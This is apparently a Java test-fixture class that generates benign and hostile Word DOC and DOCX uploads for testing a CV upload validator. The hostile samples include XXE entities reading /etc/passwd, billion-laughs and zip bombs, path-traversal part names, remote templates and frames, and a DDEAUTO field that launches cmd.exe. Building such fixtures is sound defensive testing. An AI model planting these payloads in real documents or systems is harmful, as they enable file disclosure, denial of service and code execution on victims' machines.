package io.taalentio.documents.testing;

import static io.taalentio.documents.testing.Pictures.join;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import io.taalentio.core.file.FileKind;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.security.GeneralSecurityException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.common.usermodel.PictureType;
import org.apache.poi.openxml4j.exceptions.InvalidFormatException;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.DocumentEntry;
import org.apache.poi.poifs.filesystem.DocumentInputStream;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.util.Units;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;

/** Word documents of both formats, honest and hostile. */
final class Office {

    private static final String MAIN =
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    private static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String RELATIONS =
            "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>";

    private Office() {}

    static List<Upload> good() {
        return List.of(
                cv("DOC by an office programme", "cv.doc", Uploads.resource("cv.doc")),
                cv("DOC written again by POI", "CV.DOC", editedDoc(root -> {})),
                cv("DOCX by an office programme", "cv.docx", Uploads.resource("cv.docx")),
                cv("DOCX by POI with a link and a picture", "cv.docx", poi()),
                cv(
                        "DOCX made from a template of its author's",
                        "cv.docx",
                        docx(Map.of(
                                "word/_rels/settings.xml.rels",
                                relation("attachedTemplate", "file:///C:\\Users\\Awa\\Templates\\CV.dotx")))),
                cv("DOCX with a chart's figures", "cv.docx", docx(Map.of("word/embeddings/Figures.xlsx", "PK"))),
                cv("DOCX with a page number field", "cv.docx", docx(Map.of("word/footer1.xml", field("PAGE")))));
    }

    static List<Upload> bad() {
        byte[] docx = docx(Map.of());
        byte[] doc = Uploads.resource("cv.doc");
        return List.of(
                bad("DOCX bomb of one part of 1 GB", "cv.docx", bigPart()),
                bad("DOCX bomb of pictures", "cv.docx", bigMedia()),
                bad("DOCX bomb of 20,000 parts", "cv.docx", manyParts()),
                bad("DOCX bomb of nested elements", "cv.docx", docx(Map.of("word/a.xml", "<a>".repeat(200_000)))),
                bad(
                        "DOCX with an outer entity",
                        "cv.docx",
                        docx(Map.of(
                                "word/document.xml",
                                "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><d>&x;</d>"))),
                bad(
                        "DOCX with an outer entity in UTF-16",
                        "cv.docx",
                        docxOf(Map.of(
                                "word/a.xml",
                                "<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/hosts'>]><d/>"
                                        .getBytes(UTF_16)))),
                bad(
                        "DOCX bomb of laughs",
                        "cv.docx",
                        docx(Map.of(
                                "word/a.xml",
                                "<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;'>]><l>&b;</l>"))),
                bad(
                        "DOCX with an entity in its list of types",
                        "cv.docx",
                        zip(
                                "[Content_Types].xml",
                                ("<!DOCTYPE t SYSTEM 'http://example.com/t.dtd'><Types>" + MAIN + "</Types>")
                                        .getBytes(UTF_8))),
                bad("DOCX whose part leaves the archive", "cv.docx", docx(Map.of("word/../../../evil.xml", "<a/>"))),
                bad("DOCX whose part is absolute", "cv.docx", docx(Map.of("/etc/cron.d/evil.xml", "<a/>"))),
                bad("DOCX whose part leaves by backslashes", "cv.docx", docx(Map.of("word\\..\\..\\evil.xml", "<a/>"))),
                bad("DOCX with NUL in the name of a part", "cv.docx", docx(Map.of("word/a.xml\0.exe", "<a/>"))),
                bad("DOCX with the same part twice", "cv.docx", docx(Map.of("WORD/DOCUMENT.xml", "<a/>"))),
                bad("DOCX with macros", "cv.docx", docx(Map.of("word/vbaProject.bin", "x"))),
                bad(
                        "DOCM called DOCX",
                        "cv.docx",
                        zip(
                                "[Content_Types].xml",
                                types("application/vnd.ms-word.document.macroEnabled.main+xml")
                                        .getBytes(UTF_8))),
                bad("DOCX with an OLE object", "cv.docx", docx(Map.of("word/embeddings/oleObject1.bin", "x"))),
                bad("DOCX with a programme", "cv.docx", docx(Map.of("word/media/cv.exe", "MZ"))),
                bad("DOCX with ActiveX", "cv.docx", docx(Map.of("word/activeX/activeX1.xml", "<a/>"))),
                bad(
                        "DOCX with a template from elsewhere",
                        "cv.docx",
                        docx(Map.of(
                                "word/_rels/settings.xml.rels",
                                relation("attachedTemplate", "http://example.com/t.dotm")))),
                bad(
                        "DOCX with an object from elsewhere",
                        "cv.docx",
                        docx(Map.of(
                                "word/_rels/document.xml.rels",
                                relation("oleObject", "mhtml:http://example.com/x!x")))),
                bad(
                        "DOCX with a frame from elsewhere",
                        "cv.docx",
                        docx(Map.of("word/_rels/document.xml.rels", relation("frame", "http://example.com/")))),
                bad(
                        "DOCX with a picture from a share",
                        "cv.docx",
                        docx(Map.of("word/_rels/document.xml.rels", relation("image", "\\\\203.0.113.9\\x\\a.png")))),
                bad("DOCX with a page inside", "cv.docx", docx(Map.of("word/afchunk.html", "<script>1</script>"))),
                bad(
                        "DOCX with a DDE field",
                        "cv.docx",
                        docx(Map.of("word/a.xml", field("DDEAUTO c:\\\\cmd.exe \"/k calc\"")))),
                bad(
                        "DOCX with a DDE field in pieces",
                        "cv.docx",
                        docx(Map.of(
                                "word/a.xml",
                                "<a xmlns:w='w'><w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText></a>"))),
                bad("DOCX locked by a password", "cv.docx", locked(docx)),
                bad("DOCX with broken XML", "cv.docx", docx(Map.of("word/a.xml", "<a><b></a>"))),
                bad("DOCX cut in the middle", "cv.docx", Arrays.copyOf(docx, docx.length / 2)),
                bad("ZIP called DOCX", "cv.docx", zip("readme.txt", "hello".getBytes(UTF_8))),
                bad("JAR called DOCX", "cv.docx", zip("META-INF/MANIFEST.MF", "Main-Class: X".getBytes(UTF_8))),
                bad(
                        "ODT called DOCX",
                        "cv.docx",
                        zip("mimetype", "application/vnd.oasis.opendocument.text".getBytes(UTF_8))),
                bad(
                        "XLSX called DOCX",
                        "cv.docx",
                        zip(
                                "[Content_Types].xml",
                                types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
                                        .getBytes(UTF_8))),
                bad("DOCX called DOC", "cv.doc", docx),
                bad("DOC with macros", "cv.doc", editedDoc(root -> root.createDirectory("Macros")
                        .createDirectory("VBA"))),
                bad("DOC with a packaged programme", "cv.doc", editedDoc(root -> root.createDirectory("ObjectPool")
                        .createDirectory("_1")
                        .createDocument("\u0001Ole10Native", new ByteArrayInputStream(new byte[9])))),
                bad("DOC with an equation object", "cv.doc", editedDoc(root -> root.createDirectory("ObjectPool")
                        .createDirectory("_1")
                        .createDocument("Equation Native", new ByteArrayInputStream(new byte[9])))),
                bad("DOC locked by a password", "cv.doc", lockedDoc()),
                bad("DOC without its text", "cv.doc", ole("WordDocument", new byte[10])),
                bad("XLS called DOC", "cv.doc", ole("Workbook", new byte[5000])),
                bad("DOC cut in the middle", "cv.doc", Arrays.copyOf(doc, doc.length / 2)),
                bad("DOC that is only its first bytes", "cv.doc", Arrays.copyOf(doc, 512)),
                bad("DOC whose sectors lead in a circle", "cv.doc", circle(doc)),
                bad("RTF called DOC", "cv.doc", "{\\rtf1\\ansi{\\*\\objdata 0105}}".getBytes(UTF_8)),
                bad("page called DOC", "cv.doc", "<html><body>CV</body></html>".getBytes(UTF_8)),
                bad("text called DOC", "cv.doc", "Curriculum vitae".getBytes(UTF_8)));
    }

    private static Upload cv(String label, String name, byte[] content) {
        return Upload.good(label, FileKind.CV, name, content);
    }

    private static Upload bad(String label, String name, byte[] content) {
        return Upload.bad(label, FileKind.CV, name, content);
    }

    private static String types(String main) {
        return "<?xml version='1.0' encoding='UTF-8'?>"
                + "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
                + "<Default Extension='xml' ContentType='application/xml'/>"
                + "<Override PartName='/word/document.xml' ContentType='" + main + "'/></Types>";
    }

    private static String relation(String type, String target) {
        return RELATIONS + "<Relationship Id='r1' Type='" + RELATION + type + "' Target='" + target
                + "' TargetMode='External'/></Relationships>";
    }

    private static String field(String instruction) {
        return "<w:ftr xmlns:w='w'><w:fldSimple w:instr=' " + instruction.replace("\"", "&quot;") + " '/></w:ftr>";
    }

    private static byte[] docx(Map<String, String> more) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        more.forEach((name, text) -> parts.put(name, text.getBytes(UTF_8)));
        return docxOf(parts);
    }

    /** A small honest document with the given parts added or replaced. */
    private static byte[] docxOf(Map<String, byte[]> more) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", types(MAIN).getBytes(UTF_8));
        parts.put(
                "_rels/.rels",
                (RELATIONS + "<Relationship Id='r1' Type='" + RELATION
                                + "officeDocument' Target='word/document.xml'/></Relationships>")
                        .getBytes(UTF_8));
        parts.put("word/document.xml", "<w:document xmlns:w='w'><w:body/></w:document>".getBytes(UTF_8));
        parts.putAll(more);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] zip(String name, byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] big(String name, String open, int megabytes, String close) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(1);
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(types(MAIN).getBytes(UTF_8));
            zip.putNextEntry(new ZipEntry(name));
            zip.write(open.getBytes(UTF_8));
            byte[] spaces = " ".repeat(1024 * 1024).getBytes(UTF_8);
            for (int i = 0; i < megabytes; i++) {
                zip.write(spaces);
            }
            zip.write(close.getBytes(UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] bigPart() {
        return big("word/document.xml", "<a>", 1000, "</a>");
    }

    private static byte[] bigMedia() {
        return big("word/media/image1.bmp", "BM", 1000, "");
    }

    private static byte[] manyParts() {
        Map<String, String> parts = new LinkedHashMap<>();
        for (int i = 0; i < 20_000; i++) {
            parts.put("word/media/" + i + ".png", "");
        }
        return docx(parts);
    }

    private static byte[] poi() {
        try (XWPFDocument document = new XWPFDocument()) {
            XWPFParagraph paragraph = document.createParagraph();
            paragraph.createRun().setText("Ɓintou Ɗiallo, comédienne");
            paragraph.createHyperlinkRun("https://example.com/portfolio").setText("portfolio");
            paragraph
                    .createRun()
                    .addPicture(
                            new ByteArrayInputStream(Pictures.jpeg(200, 200)),
                            PictureType.JPEG,
                            "me.jpg",
                            Units.toEMU(80),
                            Units.toEMU(80));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InvalidFormatException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] locked(byte[] docx) {
        try (POIFSFileSystem files = new POIFSFileSystem()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("secret");
            try (OutputStream out = encryptor.getDataStream(files)) {
                out.write(docx);
            }
            return bytes(files);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    interface Edit {
        void apply(DirectoryEntry root) throws IOException;
    }

    private static byte[] editedDoc(Edit edit) {
        try (POIFSFileSystem files = new POIFSFileSystem(new ByteArrayInputStream(Uploads.resource("cv.doc")))) {
            edit.apply(files.getRoot());
            return bytes(files);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The honest document with the bit set that says its text is encrypted. */
    private static byte[] lockedDoc() {
        return editedDoc(root -> {
            byte[] text;
            try (DocumentInputStream in = new DocumentInputStream((DocumentEntry) root.getEntry("WordDocument"))) {
                text = in.readAllBytes();
            }
            text[11] |= 1;
            root.getEntry("WordDocument").delete();
            root.createDocument("WordDocument", new ByteArrayInputStream(text));
        });
    }

    private static byte[] ole(String stream, byte[] content) {
        try (POIFSFileSystem files = new POIFSFileSystem()) {
            files.createDocument(new ByteArrayInputStream(content), stream);
            return bytes(files);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] bytes(POIFSFileSystem files) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        files.writeFilesystem(out);
        return out.toByteArray();
    }

    /** Every entry of the first allocation table points to the first sector. */
    private static byte[] circle(byte[] doc) {
        byte[] broken = doc.clone();
        int table = ((broken[76] & 255) | (broken[77] & 255) << 8) * 512 + 512;
        Arrays.fill(broken, table, table + 512, (byte) 0);
        return join(broken, "".getBytes(ISO_8859_1));
    }
}
